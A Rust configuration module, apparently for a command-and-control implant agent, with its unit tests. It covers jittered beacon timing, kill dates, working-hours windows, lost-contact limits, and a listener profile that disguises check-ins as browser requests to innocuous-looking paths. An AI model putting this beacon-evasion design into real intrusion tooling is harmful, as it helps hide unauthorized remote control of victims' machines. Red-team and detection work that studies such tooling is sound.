//! Agent configuration and check-in timing.

use std::env;
use std::str::FromStr;
use std::time::Duration;

use chrono::{NaiveDate, NaiveTime};
use rand::Rng;
use uuid::Uuid;

use crate::error::ConfigError;

/// Sentinel meaning "no kill date configured".
pub const KILL_DATE_UNSET: &str = "KILLDATE";

/// Sentinel meaning "no working-hours window configured".
pub const WORKING_HOURS_UNSET: &str = "WORKINGHOURS";

/// Agent identity and runtime configuration. Immutable after construction.
#[derive(Debug, Clone)]
pub struct AgentConfig {
    /// Session identifier, echoed to the controller on every check-in.
    pub session_id: String,
    /// Controller base URL.
    pub server: String,
    /// Base check-in delay in seconds.
    pub delay: u64,
    /// Fractional randomization applied to the delay (normalized into [0,1]).
    pub jitter: f64,
    /// Consecutive missed check-ins before the agent abandons the controller.
    pub lost_limit: u32,
    /// Date after which the agent must exit. `None` means unset.
    pub kill_date: Option<NaiveDate>,
    /// Local-time window outside of which the agent stays idle. `None` means unset.
    pub working_hours: Option<WorkingHours>,
    /// Listener profile: `"{poll paths}|{user agent}|{Header:Value}*"`.
    pub profile: String,
    /// Controller body that means "no new tasking".
    pub default_response: String,
    /// File-transfer chunk size in bytes.
    pub chunk_size: usize,
    /// Interpreter used for dynamic code tasks.
    pub interpreter: String,
    /// Environment variable the interpreter reads module search paths from.
    pub module_path_env: String,
    /// Timeout applied to synchronous command and script execution.
    pub command_timeout: Duration,
}

impl Default for AgentConfig {
    fn default() -> Self {
        Self {
            session_id: Uuid::new_v4().simple().to_string(),
            server: "http://127.0.0.1:8080".to_string(),
            delay: 60,
            jitter: 0.0,
            lost_limit: 60,
            kill_date: None,
            working_hours: None,
            profile: "/admin/get.php,/news.php,/login/process.php|Mozilla/5.0 \
                      (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
                .to_string(),
            default_response: String::new(),
            chunk_size: crate::transfer::DEFAULT_CHUNK_SIZE,
            interpreter: "python3".to_string(),
            module_path_env: "PYTHONPATH".to_string(),
            command_timeout: Duration::from_secs(120),
        }
    }
}

impl AgentConfig {
    /// Build a configuration from `OUTPOST_*` environment variables, falling
    /// back to defaults for anything unset.
    pub fn from_env() -> Result<Self, ConfigError> {
        let mut config = Self::default();

        if let Ok(session) = env::var("OUTPOST_SESSION") {
            config.session_id = session;
        }
        if let Ok(server) = env::var("OUTPOST_SERVER") {
            config.server = server;
        }
        if let Some(delay) = env_parse("OUTPOST_DELAY")? {
            config.delay = delay;
        }
        if let Some(jitter) = env_parse("OUTPOST_JITTER")? {
            config.jitter = jitter;
        }
        if let Some(limit) = env_parse("OUTPOST_LOST_LIMIT")? {
            config.lost_limit = limit;
        }
        if let Ok(raw) = env::var("OUTPOST_KILL_DATE") {
            config.kill_date = parse_kill_date(&raw)?;
        }
        if let Ok(raw) = env::var("OUTPOST_WORKING_HOURS") {
            config.working_hours = parse_working_hours(&raw)?;
        }
        if let Ok(profile) = env::var("OUTPOST_PROFILE") {
            config.profile = profile;
        }
        if let Ok(body) = env::var("OUTPOST_DEFAULT_RESPONSE") {
            config.default_response = body;
        }
        if let Some(size) = env_parse("OUTPOST_CHUNK_SIZE")? {
            config.chunk_size = size;
        }
        if let Ok(interpreter) = env::var("OUTPOST_INTERPRETER") {
            config.interpreter = interpreter;
        }
        if let Ok(var) = env::var("OUTPOST_MODULE_PATH_ENV") {
            config.module_path_env = var;
        }
        if let Some(secs) = env_parse::<u64>("OUTPOST_COMMAND_TIMEOUT")? {
            config.command_timeout = Duration::from_secs(secs);
        }

        Ok(config)
    }

    /// Draw one jittered sleep interval for the scheduling loop.
    pub fn sleep_interval(&self) -> Duration {
        jittered_delay(self.delay, self.jitter)
    }
}

fn env_parse<T: FromStr>(key: &str) -> Result<Option<T>, ConfigError> {
    match env::var(key) {
        Ok(raw) => raw
            .parse::<T>()
            .map(Some)
            .map_err(|_| ConfigError::InvalidValue {
                key: key.to_string(),
                message: format!("cannot parse {raw:?}"),
            }),
        Err(_) => Ok(None),
    }
}

/// Parse a `MM/DD/YYYY` kill date. The sentinel value means unset.
pub fn parse_kill_date(raw: &str) -> Result<Option<NaiveDate>, ConfigError> {
    let raw = raw.trim();
    if raw.is_empty() || raw.contains(KILL_DATE_UNSET) {
        return Ok(None);
    }
    NaiveDate::parse_from_str(raw, "%m/%d/%Y")
        .map(Some)
        .map_err(|e| ConfigError::InvalidValue {
            key: "OUTPOST_KILL_DATE".to_string(),
            message: format!("expected MM/DD/YYYY, got {raw:?}: {e}"),
        })
}

/// Parse a `HH:MM-HH:MM` working-hours window. The sentinel value means unset.
pub fn parse_working_hours(raw: &str) -> Result<Option<WorkingHours>, ConfigError> {
    let raw = raw.trim();
    if raw.is_empty() || raw.contains(WORKING_HOURS_UNSET) {
        return Ok(None);
    }
    let invalid = |message: String| ConfigError::InvalidValue {
        key: "OUTPOST_WORKING_HOURS".to_string(),
        message,
    };
    let (start, end) = raw
        .split_once('-')
        .ok_or_else(|| invalid(format!("expected HH:MM-HH:MM, got {raw:?}")))?;
    let parse = |part: &str| {
        NaiveTime::parse_from_str(part.trim(), "%H:%M")
            .map_err(|e| invalid(format!("bad time {part:?}: {e}")))
    };
    Ok(Some(WorkingHours {
        start: parse(start)?,
        end: parse(end)?,
    }))
}

/// A daily local-time window during which the agent is allowed to act.
///
/// Windows where `start > end` cross midnight (e.g. 22:00-06:00).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct WorkingHours {
    pub start: NaiveTime,
    pub end: NaiveTime,
}

impl WorkingHours {
    pub fn contains(&self, now: NaiveTime) -> bool {
        if self.start <= self.end {
            now >= self.start && now <= self.end
        } else {
            now >= self.start || now <= self.end
        }
    }

    /// How long to wait from `now` until the window next opens. `None` when
    /// `now` is already inside the window.
    pub fn until_open(&self, now: NaiveTime) -> Option<Duration> {
        if self.contains(now) {
            return None;
        }
        let day = 24 * 3600;
        let now_s = now.signed_duration_since(NaiveTime::MIN).num_seconds();
        let start_s = self.start.signed_duration_since(NaiveTime::MIN).num_seconds();
        let wait = (start_s - now_s).rem_euclid(day);
        Some(Duration::from_secs(wait as u64))
    }
}

/// Clamp jitter into [0,1]: negatives flip sign, values above 1 become
/// their reciprocal.
pub fn normalize_jitter(jitter: f64) -> f64 {
    let jitter = jitter.abs();
    if jitter > 1.0 { 1.0 / jitter } else { jitter }
}

/// Draw a sleep duration uniformly from `[(1-j)*delay, (1+j)*delay]` seconds.
pub fn jittered_delay(delay: u64, jitter: f64) -> Duration {
    let jitter = normalize_jitter(jitter);
    let min = ((1.0 - jitter) * delay as f64).floor() as u64;
    let max = ((1.0 + jitter) * delay as f64).ceil() as u64;
    let secs = if min >= max {
        min
    } else {
        rand::thread_rng().gen_range(min..=max)
    };
    Duration::from_secs(secs)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_default_config() {
        let config = AgentConfig::default();
        assert_eq!(config.delay, 60);
        assert_eq!(config.lost_limit, 60);
        assert!(config.kill_date.is_none());
        assert!(config.working_hours.is_none());
        assert_eq!(config.chunk_size, 512_000);
        assert!(!config.session_id.is_empty());
    }

    #[test]
    fn test_kill_date_sentinel_means_unset() {
        assert!(parse_kill_date("KILLDATE").unwrap().is_none());
        assert!(parse_kill_date("").unwrap().is_none());
    }

    #[test]
    fn test_kill_date_parses() {
        let date = parse_kill_date("01/31/2026").unwrap().unwrap();
        assert_eq!(date, NaiveDate::from_ymd_opt(2026, 1, 31).unwrap());
    }

    #[test]
    fn test_kill_date_rejects_garbage() {
        assert!(parse_kill_date("31-01-2026").is_err());
    }

    #[test]
    fn test_working_hours_sentinel_means_unset() {
        assert!(parse_working_hours("WORKINGHOURS").unwrap().is_none());
        assert!(parse_working_hours("").unwrap().is_none());
    }

    #[test]
    fn test_working_hours_contains() {
        let hours = parse_working_hours("09:00-17:00").unwrap().unwrap();
        let t = |h, m| NaiveTime::from_hms_opt(h, m, 0).unwrap();
        assert!(hours.contains(t(9, 0)));
        assert!(hours.contains(t(12, 30)));
        assert!(hours.contains(t(17, 0)));
        assert!(!hours.contains(t(8, 59)));
        assert!(!hours.contains(t(22, 0)));
    }

    #[test]
    fn test_working_hours_overnight_window() {
        let hours = parse_working_hours("22:00-06:00").unwrap().unwrap();
        let t = |h, m| NaiveTime::from_hms_opt(h, m, 0).unwrap();
        assert!(hours.contains(t(23, 0)));
        assert!(hours.contains(t(2, 0)));
        assert!(!hours.contains(t(12, 0)));
    }

    #[test]
    fn test_working_hours_until_open() {
        let hours = parse_working_hours("09:00-17:00").unwrap().unwrap();
        let t = |h, m| NaiveTime::from_hms_opt(h, m, 0).unwrap();
        assert_eq!(hours.until_open(t(8, 0)), Some(Duration::from_secs(3600)));
        assert_eq!(hours.until_open(t(10, 0)), None);
        // After close the wait wraps to the next day's opening.
        assert_eq!(
            hours.until_open(t(18, 0)),
            Some(Duration::from_secs(15 * 3600))
        );
    }

    #[test]
    fn test_jitter_normalization() {
        assert_eq!(normalize_jitter(-0.5), 0.5);
        assert_eq!(normalize_jitter(4.0), 0.25);
        assert_eq!(normalize_jitter(0.3), 0.3);
    }

    #[test]
    fn test_jittered_delay_bounds() {
        for _ in 0..200 {
            let d = jittered_delay(60, 0.5);
            assert!(d >= Duration::from_secs(30), "sampled {d:?}");
            assert!(d <= Duration::from_secs(90), "sampled {d:?}");
        }
    }

    #[test]
    fn test_jittered_delay_zero_jitter_is_exact() {
        for _ in 0..10 {
            assert_eq!(jittered_delay(60, 0.0), Duration::from_secs(60));
        }
    }
}
